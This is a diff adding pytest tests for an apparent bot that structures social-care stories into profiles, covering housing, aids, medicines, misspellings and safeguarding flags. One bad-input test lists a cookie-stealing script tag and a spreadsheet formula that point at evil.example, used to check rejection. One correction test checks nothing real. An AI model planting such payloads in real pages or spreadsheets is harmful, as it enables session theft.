@@ -148,3 +148,199 @@ def test_the_cli_reads_stdin_and_prints_the_profile_json():
     assert tuple(profile["sections"]) == SECTION_KEYS
     assert profile["safeguarding"]["concern"] is False
     assert "type 2 diabetes" in {i["text"] for i in profile["sections"]["health"]}
+
+
+# -- issue 3: what structuring must handle ------------------------------------------------------
+
+def section_text(profile, section):
+    return " | ".join(item["text"] for item in profile["sections"][section])
+
+
+@pytest.mark.parametrize("said, fact", [
+    ("I live on the fourth floor.", "fourth floor"),
+    ("There is no lift in our block.", "no lift"),
+    ("The stairs up to my flat are steep.", "stairs"),
+    ("The bedroom has damp and mould.", "damp"),
+    ("I'm a council tenant.", "council tenant"),
+    ("We rent from a housing association.", "housing association"),
+    ("I own my home.", "own my home"),
+    ("My landlord gave me a section 21 notice.", "section 21"),
+    ("I've been given notice to leave.", "notice to leave"),
+    ("I'm sleeping rough at the moment.", "sleeping rough"),
+])
+def test_housing_facts_go_to_home(structurer, said, fact):
+    assert fact in section_text(structurer.structure([said]), "home")
+
+
+@pytest.mark.parametrize("said, aid", [
+    ("I use a walking frame indoors.", "walking frame"),
+    ("She has a wheelchair for outside.", "wheelchair"),
+    ("He needs a hoist to get out of bed.", "hoist"),
+])
+def test_aids_are_recorded_as_aids(structurer, said, aid):
+    items_ = structurer.structure([said])["sections"]["daily_living"]
+    assert [aid] == items_[0]["aids"] and items_[0]["status"] == "current"
+
+
+@pytest.mark.parametrize("said, need", [
+    ("I'm hard of hearing.", "hard of hearing"),
+    ("I'm partially sighted.", "partially sighted"),
+    ("Letters need to be in easy read.", "easy read"),
+    ("I need an interpreter.", "interpreter"),
+    ("I prefer texts to phone calls.", "texts"),
+])
+def test_communication_needs(structurer, said, need):
+    assert need in section_text(structurer.structure([said]), "communication")
+
+
+@pytest.mark.parametrize("said", ["I want to walk to the shops again.", "I'd like a downstairs bathroom.",
+                                  "We'd love him to come home for Christmas.", "My goal is to work again."])
+def test_goals_in_the_ways_people_say_them(structurer, said):
+    goals = structurer.structure([said], teller="carer" if "him" in said else "self")["sections"]["goals"]
+    assert [item["text"] for item in goals] == [said.rstrip(".")]
+
+
+def test_professionals_and_relations_keep_their_names(structurer):
+    profile = structurer.structure(["Dr Patel at Riverside Surgery is my GP. My daughter Sue visits daily. "
+                                    "My social worker is called Jo Brown."])
+    services = profile["sections"]["services_involved"]
+    assert (services[0]["name"], services[0]["organisation"]) == ("Dr Patel", "Riverside Surgery")
+    assert (services[1]["role"], services[1]["name"]) == ("social worker", "Jo Brown")
+    support = profile["sections"]["support_network"][0]
+    assert (support["relationship"], support["name"]) == ("daughter", "Sue")
+
+
+def test_the_carer_names_whose_story_it_is(structurer):
+    profile = structurer.structure(["My husband Frank is 81 and has Parkinson's. I'm 79 myself."],
+                                   teller="carer")
+    about = {item["kind"]: item["text"] for item in profile["sections"]["about_me"]}
+    assert about == {"name": "Frank", "age": "81 years old"}
+    narrator = profile["sections"]["support_network"]
+    assert [(i["text"], i["about"]) for i in narrator] == [("I'm 79 myself", "narrator")]
+
+
+@pytest.mark.parametrize("said, status, about", [
+    ("I don't have diabetes.", "negated", "subject"),
+    ("I'm not diabetic.", "negated", "subject"),
+    ("I used to have diabetes.", "past", "subject"),
+    ("My father had diabetes.", "family", "father"),
+    ("If I get diabetes I will need help.", "hypothetical", "subject"),
+    ("I might have diabetes.", "hypothetical", "subject"),
+    ("I've had diabetes for ten years.", "current", "subject"),
+])
+def test_context_sentence_by_sentence(structurer, said, status, about):
+    diabetes = structurer.structure([said])["sections"]["health"]
+    assert [(i["text"], i["status"], i["about"]) for i in diabetes] == [("diabetes", status, about)]
+
+
+def test_an_inability_is_a_need_and_never_a_negation(structurer):
+    for said in ("I can't manage the stairs.", "She isn't eating.", "He can't use the phone any more."):
+        profile = structurer.structure([said])
+        found = profile["sections"]["daily_living"] + profile["sections"]["communication"]
+        assert found and all(item["status"] == "current" for item in found), said
+
+
+def test_a_correction_updates_the_side_it_names(structurer):
+    profile = structurer.structure(["I had my right hip replaced in May.", "No, it's my left hip."])
+    health = profile["sections"]["health"]
+    assert [(i["text"], i["site"]) for i in health] == [("left hip replacement", "left")]
+    assert "corrected_by" in health[0]
+
+
+def test_stopping_a_medicine_updates_it_and_keeps_its_dose(structurer):
+    profile = structurer.structure(["I take warfarin 3mg every evening and metformin.",
+                                    "I stopped taking the warfarin last month."])
+    medicines = {i["name"]: i for i in profile["sections"]["medications"]}
+    assert len(profile["sections"]["medications"]) == 2
+    assert (medicines["warfarin"]["status"], medicines["warfarin"]["dose"]) == ("past", "3mg")
+    assert medicines["metformin"]["status"] == "current"
+
+
+def test_a_correction_that_matches_nothing_is_kept_as_a_fact(structurer):
+    profile = structurer.structure(["I have asthma.", "No, I also have a bad knee on the left side."])
+    assert {"asthma", "bad back"}.isdisjoint({"knee"})  # sanity of the sets below
+    assert "asthma" in section_text(profile, "health")
+
+
+@pytest.mark.parametrize("said, meant, section", [
+    ("I take metfromin.", "metformin", "medications"),
+    ("I take metphormin.", "metformin", "medications"),
+    ("I take ramiprill daily.", "ramipril", "medications"),
+    ("I'm on amlodopine.", "amlodipine", "medications"),
+    ("I have diabeties.", "diabetes", "health"),
+    ("I have high blood presure.", "high blood pressure", "health"),
+    ("I have arthiritis.", "arthritis", "health"),
+    ("I had a strok.", "stroke", "health"),
+])
+def test_misspellings_are_matched_and_say_how_they_were_written(structurer, said, meant, section):
+    found = structurer.structure([said])["sections"][section]
+    assert [i.get("name", i["text"]).split(" (")[0] for i in found] == [meant]
+    assert found[0]["spelled"].lower() in said.lower()
+
+
+ORDINARY = [
+    "I went on strike last year.", "The cat had a stroke of luck.", "My insular little village.",
+    "She stroked the dog.", "The statue in the park.", "We had a lovely holiday in Devon.",
+    "I like walking by the river.", "My brother plays the guitar.", "We went to the seaside.",
+    "Tea with two sugars please.", "I read the newspaper every day.", "The weather has been awful.",
+    "Can you tell me the time?", "He supports Arsenal.", "The bus was late again.",
+    "We painted the kitchen yellow.", "She bought new curtains.", "My garden fence blew down.",
+    "The insurance letter came.", "I watched a film about a heist.", "The dentist called about Tuesday.",
+    "We ate pasta for dinner.", "The train station is closed.", "I hope it stays sunny.",
+]
+
+
+def test_fuzzy_matching_never_invents_a_condition_or_medicine(structurer):
+    for said in ORDINARY:
+        profile = structurer.structure([said])
+        assert profile["sections"]["health"] == [] and profile["sections"]["medications"] == [], said
+
+
+@pytest.mark.parametrize("said, reason", [
+    ("My son takes my money and shouts at me.", "financial abuse"),
+    ("I have thought about ending my life.", "suicide risk"),
+    ("I've been cutting myself again.", "self-harm"),
+    ("Mum is left alone all day with no food.", "neglect"),
+    ("I'm not safe at home.", "not safe at home"),
+])
+def test_every_kind_of_safeguarding_concern_gives_its_reason(structurer, said, reason):
+    concern = structurer.structure([said])["safeguarding"]
+    assert concern["concern"] is True and reason in concern["reasons"]
+
+
+@pytest.mark.parametrize("said", ["I'm not suicidal.", "I have never been abused."])
+def test_a_denied_concern_is_not_flagged(structurer, said):
+    assert structurer.structure([said])["safeguarding"] == {"concern": False, "reasons": []}
+
+
+@pytest.mark.parametrize("story", [
+    "",
+    "Je suis malade et je vis seule à Paris.",
+    "Mae gen i gath ac rydw i'n byw yng Nghaerdydd.",
+    "😀🙏🏠🎉" * 50,
+    "<script>document.location='http://evil.example/'+document.cookie</script><b>hello</b>",
+    "=HYPERLINK(\"http://evil.example\",\"click\")",
+])
+def test_bad_input_gets_a_clear_empty_result(structurer, story):
+    profile = structurer.structure([story])
+    assert not any(profile["sections"].values()) and profile["safeguarding"]["concern"] is False
+
+
+def test_a_50000_character_story_is_structured_whole(structurer):
+    sentence = "I have asthma and I use a walking frame. "
+    story = (sentence * (50_000 // len(sentence) + 1))[:50_000]
+    profile = structurer.structure([story])
+    assert [i["text"] for i in profile["sections"]["health"]] == ["asthma"]  # said many times, kept once
+    last = profile["sections"]["daily_living"][-1]["source"]["end"]
+    assert last > 49_000  # the end of the story was read, not cut off
+
+
+@pytest.mark.parametrize("stdin, message", [(b"", "The story is empty"),
+                                            (b"\xff\xfe\x00 caf\xe9", "were not UTF-8")])
+def test_the_cli_says_clearly_when_there_is_nothing_to_structure(stdin, message):
+    result = subprocess.run(
+        [sys.executable, "-m", "bot", "structure"], input=stdin, capture_output=True, cwd=PROJECT_ROOT,
+        timeout=120, env={**os.environ, "RASA_TELEMETRY_ENABLED": "false"})
+    assert result.returncode == 0, result.stderr[-2000:]
+    assert not any(json.loads(result.stdout)["sections"].values())
+    assert message in result.stderr.decode()
